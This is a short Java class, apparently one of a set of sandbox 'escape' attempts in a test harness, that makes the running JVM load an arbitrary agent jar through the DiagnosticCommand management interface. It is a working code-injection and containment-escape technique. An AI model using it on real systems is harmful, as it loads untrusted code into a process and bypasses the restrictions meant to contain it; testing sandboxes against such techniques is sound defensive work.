package com.example.escapes;

import java.lang.management.ManagementFactory;
import javax.management.ObjectName;

/** Has the JVM load an agent by its own management interface; the second word is the agent's jar. */
final class JmxAgent implements Escape {

    @Override
    public void attempt(String... words) throws Throwable {
        Object said = ManagementFactory.getPlatformMBeanServer()
                .invoke(
                        new ObjectName("com.sun.management:type=DiagnosticCommand"),
                        "jvmtiAgentLoad",
                        new Object[] {new String[] {words[1]}},
                        new String[] {String[].class.getName()});
        Target.connect(words[0]);
        System.err.println(said);
    }
}
